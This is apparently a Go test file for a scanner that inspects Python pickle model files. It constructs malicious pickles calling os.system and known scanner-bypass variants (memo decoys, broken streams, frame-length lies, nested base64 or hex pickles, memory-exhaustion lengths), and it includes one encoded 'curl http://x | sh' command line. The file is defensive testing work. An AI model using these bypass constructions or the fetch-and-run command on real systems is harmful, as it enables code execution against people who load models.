package pickle

import (
	"bytes"
	"context"
	"encoding/base64"
	"encoding/binary"
	"encoding/hex"
	"runtime"
	"strings"
	"testing"
	"time"

	"github.com/aisecops/aisec/internal/limits"
)

// Tests named after known scanner bypasses (reference/model-scanners.md §5 and §8).

func TestMemoAliasingDecoy(t *testing.T) {
	// CTF "Safe Pickle": a decoy string is memoised, the slot is overwritten, and GET returns
	// the new value; a scanner that remembers the first PUT sees torch.LongStorage.
	p := b().Proto(4).
		Unicode("torch").Put(0).Pop().Unicode("LongStorage").Put(1).Pop().
		Unicode("os").Put(0).Pop().Unicode("system").Put(1).Pop().
		Get(0).Get(1).Op(0x93).Unicode("id").Tuple1().Reduce().Stop().Bytes()
	s := complete(t, p)
	im := findImport(s, "os", "system")
	if im == nil || !im.Resolved || im.Via != "memo 0 and memo 1" {
		t.Fatalf("want os.system via memo, got %+v", s.Imports)
	}
	if findImport(s, "torch", "LongStorage") != nil {
		t.Fatal("the decoy must not be reported as an import")
	}
	if c := findCall(s, "os.system"); c == nil || len(c.Roots) != 1 || c.Roots[0].Name != "system" {
		t.Fatalf("call: %+v", s.Calls)
	}
}

func TestStackGlobalAtStartWithStringOperands(t *testing.T) {
	// GHSA-9gvj-pp9x-gcfr: protocol 0 STRING operands, STACK_GLOBAL as the third opcode.
	p := []byte("S'os'\nS'system'\n\x93(S'id'\ntR.")
	s := complete(t, p)
	if im := findImport(s, "os", "system"); im == nil || !im.Resolved || im.Opcode != "STACK_GLOBAL" {
		t.Fatalf("imports %+v", s.Imports)
	}
	if c := findCall(s, "os.system"); c == nil || c.Args != "'id'" {
		t.Fatalf("calls %+v", s.Calls)
	}
}

func TestBrokenStreamKeepsPayload(t *testing.T) {
	// nullifAI: the payload runs before the stream breaks.
	p := append(b().Proto(2).Call("posix", "system", "id").Bytes(), 0xff, 0xfe)
	s := one(t, p)
	if s.Err == nil || s.Complete {
		t.Fatalf("want Err, got complete=%v err=%v", s.Complete, s.Err)
	}
	if findImport(s, "posix", "system") == nil || findCall(s, "posix.system") == nil {
		t.Fatalf("payload lost: %+v %+v", s.Imports, s.Calls)
	}
	if s.Err.Offset != int64(len(p)-2) {
		t.Fatalf("Err offset %d, want %d", s.Err.Offset, len(p)-2)
	}
}

func TestStackedPickles(t *testing.T) {
	benign := b().Proto(2).Int(1).Stop().Bytes()
	evil := pickletestPayload("posix", "system", "id")
	var in []byte
	for i := 0; i < 5; i++ {
		if i == 1 || i == 4 {
			in = append(in, evil...)
		} else {
			in = append(in, benign...)
		}
	}
	in = append(in, "\x00\x00trailing tensor bytes"...)
	f := parseBytes(t, in, Options{})
	if len(f.Streams) != 5 {
		t.Fatalf("want 5 streams:\n%s", summary(f, ""))
	}
	for _, i := range []int{1, 4} {
		if findImport(f.Streams[i], "posix", "system") == nil {
			t.Fatalf("stream %d lost its payload", i)
		}
	}
	if f.Trailing != 23 || f.TrailingOffset != int64(len(in)-23) {
		t.Fatalf("trailing %d@%d", f.Trailing, f.TrailingOffset)
	}
	f = parseBytes(t, in, Options{MaxStreams: 2})
	if len(f.Streams) != 2 || f.TrailingOffset != int64(len(benign)+len(evil)) {
		t.Fatalf("MaxStreams=2: %d streams, trailing at %d", len(f.Streams), f.TrailingOffset)
	}
}

func pickletestPayload(module, name string, args ...string) []byte {
	return b().Proto(2).Call(module, name, args...).Stop().Bytes()
}

func TestStackedPicklesAreCapped(t *testing.T) {
	one := b().Proto(2).None().Stop().Bytes()
	in := bytes.Repeat(one, maxStacked+5)
	f := parseBytes(t, in, Options{})
	if len(f.Streams) != maxStacked || f.Exceeded == nil || f.Trailing != int64(5*len(one)) {
		t.Fatalf("%d streams, exceeded %v, trailing %d", len(f.Streams), f.Exceeded, f.Trailing)
	}
}

func TestFrameLengthLies(t *testing.T) {
	// A FRAME that ends inside the GLOBAL: pickle.py refuses, _pickle.c runs it anyway.
	body := b().Global("os", "system").Mark().Unicode("id").Tuple().Reduce().Stop().Bytes()
	p := append(b().Proto(4).Frame(5).Bytes(), body...)
	s := complete(t, p)
	if !hasAnomaly(s, AnomalyFrameMismatch) || findImport(s, "os", "system") == nil {
		t.Fatalf("anomalies %+v imports %+v", s.Anomalies, s.Imports)
	}
}

func TestHugeDeclaredLengths(t *testing.T) {
	huge := func(op byte) []byte {
		p := b().Proto(4).Raw(op).Bytes()
		return binary.LittleEndian.AppendUint64(p, 1<<62)
	}
	cases := map[string][]byte{
		"BINBYTES8":   huge(0x8e),
		"BINUNICODE8": huge(0x8d),
		"BYTEARRAY8":  huge(0x96),
		"FRAME":       append(huge(0x95), 'N', '.'),
		"LONG4":       b().Proto(2).Raw(0x8b, 0xff, 0xff, 0xff, 0x7f, 1, 2).Bytes(),
		"BINUNICODE":  b().Proto(2).Raw('X', 0xff, 0xff, 0xff, 0xff, 'a').Bytes(),
	}
	for name, p := range cases {
		t.Run(name, func(t *testing.T) {
			var before, after runtime.MemStats
			runtime.ReadMemStats(&before)
			s := one(t, p)
			runtime.ReadMemStats(&after)
			if s.Err == nil {
				t.Fatal("want Err")
			}
			if grew := after.TotalAlloc - before.TotalAlloc; grew > 8<<20 {
				t.Fatalf("allocated %d bytes for a tiny input", grew)
			}
		})
	}
	// Same through a plain io.Reader, where the size is unknown.
	f, err := Parse(context.Background(), onlyReader{bytes.NewReader(huge(0x8e))}, Options{})
	if err != nil || f.Streams[0].Err == nil {
		t.Fatalf("stream reader: err=%v stream err=%v", err, f.Streams[0].Err)
	}
}

// onlyReader hides every method but Read.
type onlyReader struct{ r *bytes.Reader }

func (o onlyReader) Read(p []byte) (int, error) { return o.r.Read(p) }

func TestExpansionStaysCheap(t *testing.T) {
	// x = ('a'*100,); 40 times: x = (x, x) via DUP and the memo. A real unpickler builds a
	// DAG, a naive renderer 2^40 strings.
	p := b().Proto(2).Unicode(strings.Repeat("a", 100)).Tuple1()
	for i := 0; i < 40; i++ {
		p.Put(1).Pop().Get(1).Get(1).Tuple2().Dup().Pop()
	}
	p.Put(2).Global("builtins", "print").Get(2).Tuple1().Reduce()
	for i := 0; i < 100_000; i++ {
		p.Get(2).Pop()
	}
	p.Stop()
	start := time.Now()
	s := complete(t, p.Bytes())
	if d := time.Since(start); d > 2*time.Second {
		t.Fatalf("took %v", d)
	}
	c := findCall(s, "builtins.print")
	if c == nil || len(c.Args) > argsLimit+10 || len(s.Result.Repr) > resultLimit+10 {
		t.Fatalf("rendering not bounded: %d/%d", len(c.Args), len(s.Result.Repr))
	}
	if s.Memo.Gets < 100_000 || s.Memo.Dups != 40 {
		t.Fatalf("memo stats %+v", s.Memo)
	}
}

func TestBudgets(t *testing.T) {
	p := b().Proto(2)
	for i := 0; i < 1000; i++ {
		p.None()
	}
	s := one(t, p.Stop().Bytes())
	if s.Exceeded != nil {
		t.Fatalf("default budget: %v", s.Exceeded)
	}
	f := parseBytes(t, p.Bytes(), Options{Budget: limits.Budget{MaxStack: 100}})
	if st := f.Streams[0]; st.Exceeded == nil || st.Complete {
		t.Fatalf("MaxStack=100: %+v", st)
	}
	f = parseBytes(t, p.Bytes(), Options{Budget: limits.Budget{MaxOpcodes: 10}})
	if st := f.Streams[0]; st.Exceeded == nil || st.Opcodes != 10 {
		t.Fatalf("MaxOpcodes=10: exceeded=%v opcodes=%d", st.Exceeded, st.Opcodes)
	}
	f = parseBytes(t, p.Bytes(), Options{Budget: limits.Budget{MaxFileBytes: 100}})
	if st := f.Streams[0]; st.Exceeded == nil {
		t.Fatalf("MaxFileBytes=100: %+v", st)
	}
}

func TestCancellation(t *testing.T) {
	ctx, cancel := context.WithCancel(context.Background())
	cancel()
	if _, err := Parse(ctx, bytes.NewReader(b().Proto(2).None().Stop().Bytes()), Options{}); err == nil {
		t.Fatal("want the context error")
	}
}

func TestNestedPickles(t *testing.T) {
	inner := pickletestPayload("posix", "system", "id")
	cases := []struct {
		name, enc, loader string
		outer             []byte
	}{
		{"raw bytes as data", encRaw, "", b().Proto(4).EmptyDict().Unicode("blob").BinBytes(inner).SetItem().Stop().Bytes()},
		{"raw bytes to pickle.loads", encRaw, "pickle.loads", b().Proto(4).Global("pickle", "loads").BinBytes(inner).Tuple1().Reduce().Stop().Bytes()},
		{"base64 str as data", encBase64, "", b().Proto(4).Unicode(base64.StdEncoding.EncodeToString(inner)).Stop().Bytes()},
		{"base64 through b64decode", encBase64, "pickle.loads", b().Proto(4).Global("pickle", "loads").
			Global("base64", "b64decode").Unicode(base64.StdEncoding.EncodeToString(inner)).Tuple1().Reduce().Tuple1().Reduce().Stop().Bytes()},
		{"hex as data", encHex, "", b().Proto(4).Unicode(hex.EncodeToString(inner)).Stop().Bytes()},
		{"latin-1 str through _codecs.encode", encRaw, "_pickle.loads", b().Proto(2).Global("_pickle", "loads").
			Global("_codecs", "encode").Unicode(latin1ToUTF8(inner)).Unicode("latin1").Tuple2().Reduce().Tuple1().Reduce().Stop().Bytes()},
		{"protocol 0 STRING", encRaw, "pickle.loads", []byte("cpickle\nloads\n(S'cos\\nsystem\\n(S\\'id\\'\\ntR.'\ntR.")},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			s := complete(t, c.outer)
			if len(s.Nested) != 1 {
				t.Fatalf("want 1 nested pickle, got %d", len(s.Nested))
			}
			n := s.Nested[0]
			if n.Encoding != c.enc || n.Loader != c.loader {
				t.Fatalf("encoding %q loader %q", n.Encoding, n.Loader)
			}
			in := n.File.Streams[0]
			if findImport(in, "posix", "system") == nil && findImport(in, "os", "system") == nil {
				t.Fatalf("inner payload not found:\n%s", summary(n.File, ""))
			}
		})
	}
}

// latin1ToUTF8 returns the str whose latin-1 encoding is b.
func latin1ToUTF8(b []byte) string {
	r := make([]rune, len(b))
	for i, c := range b {
		r[i] = rune(c)
	}
	return string(r)
}

func TestNestedDepthIsBounded(t *testing.T) {
	p := b().Proto(2).None().Stop().Bytes()
	for i := 0; i < 8; i++ {
		p = b().Proto(2).BinBytes(p).Stop().Bytes()
	}
	s := complete(t, p)
	depth := 0
	for n := s.Nested; len(n) > 0; n = n[0].File.Streams[0].Nested {
		depth++
		if n[0].File.Streams[0].Exceeded != nil {
			break
		}
	}
	if depth != limits.Default().MaxNested+1 {
		t.Fatalf("nesting stopped at depth %d", depth)
	}
}

func TestCodeLikeStrings(t *testing.T) {
	p := b().Proto(4).EmptyList().Mark().
		Unicode("import os; os.system('id')").
		Unicode(base64.StdEncoding.EncodeToString([]byte("curl http://x | sh"))).
		Unicode("just a sentence about models").
		Appends().Stop().Bytes()
	s := complete(t, p)
	if len(s.Strings) != 2 || s.Strings[0].Encoding != encRaw || s.Strings[1].Encoding != encBase64 ||
		s.Strings[1].Text != "curl http://x | sh" {
		t.Fatalf("strings %+v", s.Strings)
	}
}
